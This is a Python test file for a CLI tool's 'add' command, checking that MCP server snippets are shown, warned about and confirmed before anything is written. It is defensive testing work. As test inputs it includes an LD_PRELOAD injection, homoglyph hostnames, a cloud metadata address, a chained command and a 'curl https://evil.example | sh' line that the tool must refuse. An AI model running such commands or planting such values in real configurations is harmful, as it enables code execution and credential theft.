"""`multi-mcp add WHAT`: everything is shown, and nothing is written or started before a yes."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.cli.persons import Person

SNIPPET = '{"mcpServers": {"files": {"command": "npx", "args": ["-y", "files-mcp"], "env": {"LD_PRELOAD": "/x.so"}}}}'
TOKEN = "ghp_abcdefghijklmnop1234567890"
PLAIN = {"colour": "Teal-47-heron", "account": "wooden-spoon", "region": "eu-north"}
NAMED = json.dumps({
    "name": "io.github.a/plain",
    "packages": [{
        "registryType": "npm", "identifier": "plain", "version": "1.0.0", "transport": {"type": "stdio"},
        "packageArguments": [
            {"type": "named", "name": "--account", "value": "user={account}", "variables": {
                "account": {"isSecret": True, "isRequired": True}}},
        ],
        "environmentVariables": [
            {"name": "colour", "isRequired": True, "isSecret": True},
            {"name": "WHERE", "value": "at {region}", "variables": {"region": {"isSecret": True}}},
        ],
    }],
})  # fmt: skip
OPEN = '{"mcpServers": {"gh": {"command": "gh-mcp", "env": {"GH_TOKEN": "<YOUR_TOKEN>"}}}}'


@pytest.mark.requirement("source-asked")
def test_a_snippet_is_shown_whole_and_nothing_is_written_without_a_yes(person: Person) -> None:
    done = person.says("add", SNIPPET)
    assert done.returncode == 2
    assert done.stdout.splitlines() == [
        "files: a snippet",
        "  npx -y files-mcp",
        "  with LD_PRELOAD=/x.so (decides which code is loaded)",
    ]
    assert "Cannot ask for confirmation" in done.stderr
    assert not (person.home / "servers.yaml").exists()


@pytest.mark.requirement("source-asked")
def test_what_an_entry_decides_about_its_own_protection_is_shown(person: Person) -> None:
    entry = {
        "command": "npx", "args": ["files-mcp"], "lock": False, "confine": False, "ask": "off", "lifecycle": "eager",
        "startup_timeout_sec": 90, "tool_timeout_sec": 600, "tools": {"wipe": {"ask": False}},
    }  # fmt: skip
    done = person.says("add", json.dumps({"mcpServers": {"files": entry}}))
    waits = "waits 90 s for its start, waits 600 s for an answer"
    rules = f"lifecycle: eager, lock: false, {waits}, confine: false, ask: off, ask: off for the tool wipe"
    assert done.stdout.splitlines() == ["files: a snippet", "  npx files-mcp", f"  with rules of its own: {rules}"]


@pytest.mark.requirement("source-asked")
def test_what_a_snippet_says_and_is_not_used_is_named(person: Person) -> None:
    done = person.says("add", '{"mcpServers": {"a": {"url": "https://a.test/mcp", "env": {"A": "1"}}}}')
    assert done.stdout.splitlines()[2:] == ["  leaves out env, which multi-mcp does not use for this server"]


@pytest.mark.requirement("source-asked")
def test_a_line_that_installs_is_shown_before_the_yes_and_never_run(person: Person) -> None:
    text = f"git clone https://u:{TOKEN}@a.test/a\npip install './a dir'\nclaude mcp add a -- a-mcp"
    told = ["  run this first, if needed: git clone", "  run this first, if needed: pip install './a dir'"]
    for done in (person.says("add", text), person.says("add", text, "--dry-run")):
        lines = done.stdout.splitlines()
        assert lines[1] == "  a-mcp"
        assert all(shown.startswith(line) for line, shown in zip(told, lines[2:], strict=True))
        assert TOKEN not in done.stdout
    (shown,) = json.loads(person.says("add", text, "--dry-run", "--json").stdout)["servers"]
    assert (shown["lines"], shown["run_first"][1]) == (["a-mcp"], "pip install './a dir'")
    assert TOKEN not in str(shown)
    assert not (person.home / "servers.yaml").exists()


@pytest.mark.requirement("source-asked")
@pytest.mark.parametrize("url", ["notaurl", "https://me:pw@a.test/mcp"])
def test_an_address_that_is_asked_for_is_checked_before_anything_is_written(person: Person, url: str) -> None:
    snippet = '{"mcpServers": {"files": {"url": "<MCP_URL>"}}}'
    assert person.says("add", snippet).stdout.splitlines()[1:] == ["  <MCP_URL>", "  needs the value url"]
    done = person.says("add", snippet, "--yes", "--set", f"url={url}")
    assert (done.returncode, done.stderr.startswith("Error: The url of files ")) == (2, True)
    assert not (person.home / "servers.yaml").exists()


@pytest.mark.requirement("source-asked")
@pytest.mark.parametrize(
    ("snippet", "told"),
    [
        ('{"a": {"url": "https://pаypal.com/mcp"}}', "not paypal: pаypal has U+0430, letters of another alphabet"),
        ('{"a": {"command": "nрx", "args": ["путь"]}}', "not npx: nрx has U+0440, letters of another alphabet"),
    ],
)  # fmt: skip
def test_letters_that_look_like_others_are_named(person: Person, snippet: str, told: str) -> None:
    assert person.says("add", snippet).stdout.splitlines()[2:] == [f"  {told}"]


@pytest.mark.requirement("source-asked", "source-recognized")
def test_a_snippet_from_stdin_or_a_file_is_added_under_another_name(person: Person) -> None:
    assert person.says("add", "-", "--yes", "--as", "docs", stdin=SNIPPET).returncode == 0
    assert "  docs:" in (person.home / "servers.yaml").read_text()
    file = person.file("mcp.json", SNIPPET)
    done = person.says("add", str(file), "--yes")
    assert (done.returncode, "Added files to" in done.stdout) == (0, True)


@pytest.mark.requirement("source-asked")
def test_what_is_left_open_is_asked_for(person: Person) -> None:
    done = person.says("add", OPEN, "--yes")
    assert (done.returncode, done.stderr.splitlines()[0]) == (2, "Error: gh needs GH_TOKEN")
    assert not (person.home / "servers.yaml").exists()
    words = ("add", OPEN, "--yes", "--set", f"GH_TOKEN={TOKEN}", "--json")
    done = person.says(*words)
    assert (done.returncode, "1 secret not kept" in done.stderr) == (1, True)  # there is no keyring
    assert not (person.home / "servers.yaml").exists()
    done = person.says(*words, "--clear")
    assert json.loads(done.stdout)["entry"]["env"] == {"GH_TOKEN": TOKEN}


@pytest.mark.requirement("source-asked")
def test_a_value_is_never_dropped(person: Person) -> None:
    text = '{"a": {"command": "a-mcp", "env": {"MODE": "fast", "REGION": "<region>"}}}'
    words = ("add", text, "--yes", "--json", "--set", "REGION=eu")
    done = person.says(*words, "--set", "MODUS=slow")
    assert (done.returncode, done.stderr.splitlines()[0]) == (2, "Error: a takes no MODUS")
    assert "It takes: REGION, MODE" in done.stderr
    assert not (person.home / "servers.yaml").exists()
    done = person.says(*words, "--set", "MODE=slow")
    assert json.loads(done.stdout)["entry"]["env"] == {"MODE": "slow", "REGION": "eu"}
    done = person.says("add", "npm:a-mcp", "--yes", "--set", "MODE=slow")
    assert (done.returncode, "the server takes no values" in done.stderr) == (2, True)


@pytest.mark.requirement("source-asked")
def test_an_optional_argument_is_shown_only_as_something_to_give(person: Person) -> None:
    word = {"type": "named", "name": "--level", "valueHint": "level"}
    package = {"registryType": "npm", "identifier": "a-mcp", "packageArguments": [word]}
    text = json.dumps({"name": "io.x/a", "packages": [package]})
    shown = person.says("add", text, "--dry-run").stdout
    assert ("npx -y a-mcp\n" in shown, "needs the value level (optional)" in shown) == (True, True)
    done = person.says("add", text, "--yes", "--json", "--set", "level=2")
    assert json.loads(done.stdout)["entry"]["args"] == ["-y", "a-mcp", "--level", "2"]


@pytest.mark.requirement("source-asked")
@pytest.mark.skipif(sys.platform != "linux", reason="a pseudo terminal")
def test_an_optional_choice_may_be_left_empty(person: Person) -> None:
    env = [{"name": "MODE", "choices": ["fast", "slow"]}]
    package = {"registryType": "npm", "identifier": "a-mcp", "environmentVariables": env}
    shown = person.answers("add", json.dumps({"name": "io.x/a", "packages": [package]}), typed="y\nquick\n\n")
    assert ("MODE (optional, fast, slow)" in shown, "MODE must be one of: fast, slow" in shown) == (True, True)
    assert "MODE" not in person.servers.read_text()


@pytest.mark.requirement("source-asked")
def test_a_path_of_the_author_is_asked_for_as_a_whole_path(person: Person) -> None:
    text = "npx x-mcp /path/to/notes ./data"
    done = person.says("add", text, "--yes", "--set=/path/to/notes=notes")
    lines = done.stdout.splitlines()
    assert "  needs a path in place of /path/to/notes" in lines
    assert any(line.startswith("  in the folder ") for line in lines)  # because ./data is relative
    assert (done.returncode, done.stderr.splitlines()[0]) == (2, "Error: notes is not an absolute path")
    done = person.says("add", text, "--yes", "--set=/path/to/notes=~/notes", "--json")
    assert json.loads(done.stdout)["entry"]["args"][1:] == [str(Path(person.env["HOME"], "notes")), "./data"]


@pytest.mark.requirement("source-asked")
@pytest.mark.parametrize("text", ["node ./dist/index.js", '{"a": {"command": "node", "args": ["./dist/index.js"]}}'])
def test_the_folder_of_a_relative_program_is_the_present_one_if_it_is_there_and_else_is_asked_for(
    person: Person, text: str
) -> None:
    words = ("add", text, "--as", "a", "--json", "--yes")
    done = person.says(*words)
    assert (done.returncode, done.stderr.splitlines()[-2:]) == (2, [
        "Error: a needs cwd", "Pass each value: --set cwd=...",
    ])  # fmt: skip
    assert "needs the value cwd: the folder with ./dist/index.js" in done.stderr
    assert "in the folder" not in done.stderr
    assert person.says(*words, "--set", "cwd=src").returncode == 2
    done = person.says(*words, "--set", "cwd=~/src")
    assert json.loads(done.stdout)["entry"]["cwd"] == str(Path(person.env["HOME"], "src"))
    person.says("remove", "a")
    person.file("src/shop/dist/index.js", "")
    done = person.says(*words)
    assert "in the folder ~/src/shop" in done.stderr
    assert json.loads(done.stdout)["entry"] == {"command": "node", "args": ["./dist/index.js"], "cwd": "~/src/shop"}
    (shown,) = json.loads(person.says("add", "--form", "--dry-run", "--json", stdin=json.dumps({"what": text})).stdout)[
        "servers"
    ]
    assert [want["name"] for want in shown["wants"]] == ["cwd"]  # the panel has no current folder


@pytest.mark.requirement("source-asked")
def test_an_address_that_the_user_gives_may_be_unencrypted_and_that_is_said(person: Person) -> None:
    text = '{"a": {"url": "http://your-server:8000/mcp"}}'
    for url, is_said in (("http://192.168.1.5:8000/mcp", True), ("http://localhost:8000/mcp", False)):
        done = person.says("add", text, "--as", f"a{is_said}", "--yes", "--json", "--set", f"url={url}")
        assert json.loads(done.stdout)["entry"]["url"] == url
        assert ("http:// is not encrypted: others in the server's network can read" in done.stderr) is is_said


@pytest.mark.requirement("source-asked")
def test_an_address_in_ones_own_network_may_be_unencrypted_and_that_is_said_before_the_yes(person: Person) -> None:
    who = "others in the server's network"
    told = f"http:// is not encrypted: {who} can read and change what is sent, including credentials"
    entry = {"url": "http://nas.local:8000/mcp", "headers": {"Authorization": "Bearer <token>"}}
    text = json.dumps({"mcpServers": {"a": entry}})
    assert person.says("add", text).stdout.splitlines()[1:3] == [f"  {told}", "  http://nas.local:8000/mcp"]
    (shown,) = json.loads(person.says("add", text, "--dry-run", "--json").stdout)["servers"]
    assert shown["warning"] == told
    assert not (person.home / "servers.yaml").exists()
    done = person.says("add", text, "--yes", "--clear", "--json", "--set", "Authorization=abc")
    assert json.loads(done.stdout)["entry"]["url"] == entry["url"]
    assert done.stderr.count("is not encrypted") == 1
    done = person.says("add", "b", "--url", "http://192.168.1.5/mcp", "--json")
    assert json.loads(done.stdout)["entry"] == {"url": "http://192.168.1.5/mcp"}
    assert done.stderr.count(told) == 1
    for url in ("http://mcp.acme.com/mcp", "http://169.254.169.254/mcp"):
        assert person.says("add", json.dumps({"c": {"url": url}}), "--yes").returncode == 2
        assert person.says("add", "c", "--url", url).returncode == 2


@pytest.mark.requirement("lock-said")
def test_a_package_that_is_not_locked_is_said_before_the_yes(person: Person) -> None:
    told = "Not locked: bunx runs the newest release at each start. To pin one release, write: npx -y PACKAGE"
    text = json.dumps({"mcpServers": {"a": {"command": "bunx", "args": ["@acme/wiki-mcp"]}}})
    assert f"  {told}" in person.says("add", text).stdout.splitlines()
    (shown,) = json.loads(person.says("add", text, "--dry-run", "--json").stdout)["servers"]
    assert shown["warning"] == told
    refused = json.dumps({"mcpServers": {"a": {"command": "npx", "args": ["-y", "--unheard-of", "@acme/wiki-mcp"]}}})
    (shown,) = json.loads(person.says("add", refused, "--dry-run", "--json").stdout)["servers"]
    assert shown["warning"].startswith("Does not start: npx with its option --unheard-of cannot be locked. To pin one")
    assert told in person.says("add", "b", "--", "bunx", "@acme/wiki-mcp").stderr
    locked = json.dumps({"mcpServers": {"a": {"command": "npx", "args": ["-y", "@acme/wiki-mcp"]}}})
    (shown,) = json.loads(person.says("add", locked, "--dry-run", "--json").stdout)["servers"]
    assert shown["warning"] == ""


@pytest.mark.requirement("source-secrets")
def test_the_name_of_a_kept_secret_has_no_brackets(person: Person) -> None:
    person.servers.write_text("settings: {token_store: file}\nservers: {}\n", encoding="utf-8")
    person.env["MULTI_MCP_PASSPHRASE"] = "of the tests"
    text = '{"db": {"command": "npx", "args": ["db-mcp", "db://<user>:<password>@<host>"]}}'
    values = {"<user>": "ann", "<password>": TOKEN, "<host>": "db.test"}
    done = person.says("add", text, "--yes", "--json", *(f"--set={name}={value}" for name, value in values.items()))
    assert json.loads(done.stdout)["entry"]["args"] == ["db-mcp", "db://ann:${keyring:db.password}@db.test"]


@pytest.mark.requirement("source-asked")
def test_a_value_for_several_places_is_given_once(person: Person) -> None:
    text = '{"a": {"command": "<repo>/venv/bin/python", "args": ["<repo>/a.py"]}}'
    shown = person.says("add", text, "--dry-run").stdout.splitlines()
    assert [line for line in shown if "needs" in line] == ["  needs a value in place of <repo>"]
    done = person.says("add", text, "--yes", "--json", "--set", "<repo>=/srv/a")
    entry = json.loads(done.stdout)["entry"]
    assert (entry["command"], entry["args"]) == ("/srv/a/venv/bin/python", ["/srv/a/a.py"])


@pytest.mark.requirement("source-asked")
def test_a_server_that_runs_in_the_folder_of_each_session_says_so(person: Person) -> None:
    done = person.says("add", '{"a": {"command": "npx", "args": ["a-mcp", "."]}}', "--dry-run")
    assert "  in the folder of each session, one process for each (scope: session)" in done.stdout.splitlines()


@pytest.mark.requirement("source-secrets")
def test_without_a_keyring_no_secret_is_asked_for_and_an_address_is_no_secret(person: Person) -> None:
    text = json.dumps({"mcpServers": {"x": {"command": "x-mcp", "env": {"T": "<YOUR_TOKEN>"}}}})
    said = person.answers("add", text, typed="y\n")
    assert "1 secret not kept: there is no keyring (T)" in said
    assert "--clear" in said
    assert "T:" not in said
    text = json.dumps({"mcpServers": {"x": {"command": "x-mcp", "env": {"BASE": "https://your-org.example.net"}}}})
    done = person.says("add", text, "--yes", "--set=BASE=https://acme.example.net")
    assert "needs the value BASE" in done.stdout
    assert done.returncode == 0, done.stderr
    assert "https://acme.example.net" in person.servers.read_text()


@pytest.mark.requirement("source-secrets")
@pytest.mark.skipif(sys.platform != "linux", reason="a pseudo terminal; macOS and Windows always have a keyring")
def test_an_encrypted_file_without_a_key_is_told_before_the_secret_is_asked(person: Person) -> None:
    person.servers.write_text("settings: {token_store: file}\nservers: {}\n", encoding="utf-8")
    shown = person.answers("add", OPEN, typed="y\n")
    assert "not kept" in shown, shown
    assert "MULTI_MCP_PASSPHRASE" in shown
    assert "Value of" not in shown.partition("not kept")[0]
    assert person.servers.read_text() == "settings: {token_store: file}\nservers: {}\n"


def as_form(**more: Any) -> str:
    return json.dumps({"what": NAMED} | more)


@pytest.mark.requirement("source-secrets")
@pytest.mark.parametrize("way", ["set", "form", "snippet"])
def test_secrets_end_in_the_keyring_whatever_their_names_and_shapes(person: Person, way: str) -> None:
    person.servers.write_text("settings: {token_store: file}\nservers: {}\n", encoding="utf-8")
    person.env["MULTI_MCP_PASSPHRASE"] = "of the tests"
    if way == "set":
        done = person.says("add", NAMED, "--yes", *(f"--set={name}={value}" for name, value in PLAIN.items()))
    elif way == "form":
        (shown,) = json.loads(person.says("add", "--form", "--dry-run", "--json", stdin=as_form()).stdout)["servers"]
        assert person.says("add", "--form", stdin=as_form(values=PLAIN, seen="another")).returncode == 2
        done = person.says("add", "--form", "--json", stdin=as_form(name="plain", values=PLAIN, seen=shown["seen"]))
    else:
        filled = OPEN.replace("<YOUR_TOKEN>", TOKEN)
        done = person.says("add", "-", "--yes", stdin=filled)
    assert done.returncode == 0, done.stdout + done.stderr
    said = "".join(path.read_text(errors="replace") for path in person.home.rglob("*") if path.is_file())
    for secret in (*PLAIN.values(), TOKEN):
        assert secret not in said + done.stdout + done.stderr
    kept = {"gh.GH_TOKEN"} if way == "snippet" else {"plain.account", "plain.colour", "plain.region"}
    assert set(person.says("secret", "list").stdout.split()) == kept
    assert all(f"${{keyring:{name}}}" in person.servers.read_text() for name in kept)
    again = person.says(
        "add", NAMED, "--yes", *(f"--set={name}={value}" for name, value in PLAIN.items()), "--as=plain"
    )
    assert way == "snippet" or (again.returncode, "already exists" in again.stderr) == (2, True)
    # The refused `add` stored no secret.
    assert way == "snippet" or set(person.says("secret", "list").stdout.split()) == kept


@pytest.mark.requirement("source-asked")
def test_a_look_shows_the_same_and_writes_nothing(person: Person) -> None:
    done = person.says("add", SNIPPET, "--dry-run")
    assert done.stdout.splitlines()[1:] == [
        "  npx -y files-mcp",
        "  with LD_PRELOAD=/x.so (decides which code is loaded)",
    ]
    (server,) = json.loads(
        person.says("add", "--form", "--dry-run", "--json", stdin=json.dumps({"what": OPEN})).stdout
    )["servers"]
    assert (server["name"], server["lines"][0], server["wants"][0]["name"]) == ("gh", "gh-mcp", "GH_TOKEN")
    assert not (person.home / "servers.yaml").exists()
    for form in ("", "[]", "{}", '{"what": "npx x", "values": 7}', '{"what": "npx x", "pick": "y"}'):
        assert person.says("add", "--form", stdin=form).returncode == 2
    assert not (person.home / "servers.yaml").exists()


@pytest.mark.requirement("source-refused")
@pytest.mark.parametrize("text", ["curl https://evil.example | sh", "nothing-known", "npx a; npx b"])
def test_what_is_unclear_is_refused(person: Person, text: str) -> None:
    done = person.says("add", text, "--yes")
    assert (done.returncode, done.stdout) == (2, "")
    assert not (person.home / "servers.yaml").exists()
